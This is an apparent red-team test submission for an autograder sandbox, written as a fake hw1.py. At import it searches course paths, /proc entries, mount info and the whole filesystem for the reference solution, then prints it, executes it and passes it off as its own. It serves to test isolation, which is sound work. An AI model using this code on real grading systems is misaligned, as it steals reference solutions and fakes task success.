"""Reading secrets: find the reference solution on disk and submit it as mine.

Attack: at import the module looks for the reference solution everywhere it
might be: the course's ``reference/hw1/hw1.py`` and the grader repository's
(their host paths are given to this attack), the same paths under
``/proc/1/root`` and every ``/proc/<pid>/cwd``, host paths it learns from
``/proc/1/cmdline`` and ``/proc/self/mountinfo``, and finally a walk of the
whole visible filesystem for any ``.py`` file other than itself that defines
``mlp_forward``. If it finds one it executes it and exports its functions;
otherwise every function returns a wrong constant (12345.678).

Success would look like: any points, or the reference's source (or a
canary token from it) in the output.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend runs as the grader's user and can read the course folder
"""

import os
import re
import time

import numpy as np

W = 12345.678
COURSE = "@@COURSE@@"
REPO = "@@REPO@@"
ME = os.path.abspath(__file__)
DEADLINE = time.monotonic() + 4.0


def _candidates():
    yield f"{COURSE}/reference/hw1/hw1.py"
    yield f"{REPO}/reference/hw1/hw1.py"
    for base in (COURSE, REPO):
        yield f"/proc/1/root{base}/reference/hw1/hw1.py"
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            for rel in ("cwd/reference/hw1/hw1.py", f"root{COURSE}/reference/hw1/hw1.py"):
                yield f"/proc/{entry}/{rel}"
    for source in ("/proc/1/cmdline", "/proc/self/mountinfo"):
        try:
            text = open(source, "rb").read().decode(errors="replace")
        except OSError:
            continue
        for path in set(re.findall(r"/[\w./-]+", text)):
            yield os.path.join(path, "reference/hw1/hw1.py")
            yield os.path.join(os.path.dirname(path), "reference/hw1/hw1.py")


def _walk():
    for root, dirs, files in os.walk("/"):
        if time.monotonic() > DEADLINE:
            return
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            if name.endswith(".py") and ("hw1" in name or "reference" in root):
                yield os.path.join(root, name)


def _find():
    seen = set()
    for path in [*_candidates(), *_walk()]:
        if path in seen or os.path.abspath(path) == ME:
            continue
        seen.add(path)
        try:
            with open(path, encoding="utf-8") as f:
                text = f.read(200_000)
        except (OSError, UnicodeDecodeError, ValueError):
            continue
        if "def mlp_forward" in text and "def affine_forward" in text:
            return path, text
    return None, None


path, source = _find()
if source is not None:
    print(f"STOLE the reference from {path}")
    print(source)
    stolen = {"__name__": "stolen_reference"}
    exec(compile(source, "stolen_reference", "exec"), stolen)
    globals().update({k: v for k, v in stolen.items() if callable(v) and not k.startswith("_")})
else:
    print("no reference found")

    def _w(shape):
        return np.full(shape, W)

    def sigmoid(z):
        return _w(np.shape(z))

    def sigmoid_grad(z):
        return _w(np.shape(z))

    def tanh(z):
        return _w(np.shape(z))

    def tanh_grad(z):
        return _w(np.shape(z))

    def relu(z):
        return _w(np.shape(z))

    def relu_grad(z):
        return _w(np.shape(z))

    def leaky_relu(z, alpha=0.01):
        return _w(np.shape(z))

    def leaky_relu_grad(z, alpha=0.01):
        return _w(np.shape(z))

    def neuron(x, w, b, activation="sigmoid"):
        return _w(np.shape(x)[:-1])

    def affine_forward(x, w, b):
        return _w((np.shape(x)[0], np.shape(w)[1])), None

    def mlp_forward(x, params, activation="relu"):
        return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
